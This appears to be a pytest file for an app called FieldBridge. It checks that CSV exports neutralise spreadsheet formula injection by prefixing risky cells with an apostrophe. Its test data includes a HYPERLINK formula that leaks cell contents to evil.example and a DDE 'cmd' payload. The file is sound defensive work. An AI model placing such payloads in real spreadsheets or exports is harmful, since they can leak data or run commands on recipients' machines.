"""Every CSV FieldBridge writes opens in a spreadsheet as data, never as a formula (OWASP)."""

import csv
import io
from decimal import Decimal

import httpx
import pytest

from fieldbridge.connections.models import Connection
from fieldbridge.delivery import service as delivery_service
from fieldbridge.kit.csvsafe import CsvWriter, safe_cell
from fieldbridge.kit.db import Database
from fieldbridge.settings import Settings
from tests.factories import bearer, create_tenant

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (FORMULA, "'" + FORMULA),
        ("+1-555-0100", "'+1-555-0100"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Rosa Diaz", "Rosa Diaz"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (-5, "-5"),
        (Decimal("-1.50"), "-1.50"),
    ],
)
def test_text_that_a_spreadsheet_would_run_is_prefixed_and_numbers_stay(
    value: str | int | Decimal | None, written: str
) -> None:
    assert safe_cell(value) == written


def test_every_cell_is_quoted_and_reads_back_as_the_escaped_text() -> None:
    writer = CsvWriter()
    text = "".join(writer.chunks(["name", "note"], [["Ann", 'say "hi", =1'], [FORMULA, -5]], size=10))
    assert text.splitlines()[0] == '"name","note"'
    assert list(csv.reader(io.StringIO(text))) == [
        ["name", "note"],
        ["Ann", 'say "hi", =1'],
        ["'" + FORMULA, "-5"],
    ]


async def test_the_export_log_csv_escapes_formulas_from_worker_text(
    client: httpx.AsyncClient, db: Database, settings: Settings
) -> None:
    tenant = await create_tenant(db, settings)
    async with db.transaction() as session:
        connection = Connection(company_id=tenant.company.id, provider="procore", label="P", config={})
        session.add(connection)
        await session.flush()
        row = await delivery_service.enqueue(
            session,
            company_id=tenant.company.id,
            connection_id=connection.id,
            kind="procore.timecard.create",
            subject=FORMULA,
            payload={"project_id": 1},
        )
        row.reason = f"{FORMULA} is not linked to a Procore person"
        row.status = "parked"
    exported = await client.get("/api/v1/deliveries.csv", headers=bearer(tenant.api_key))
    assert exported.status_code == 200, exported.text
    [line] = list(csv.DictReader(io.StringIO(exported.text)))
    assert line["subject"] == "'" + FORMULA
    assert line["reason"] == "'" + FORMULA + " is not linked to a Procore person"
    assert exported.text.splitlines()[1].startswith('"')
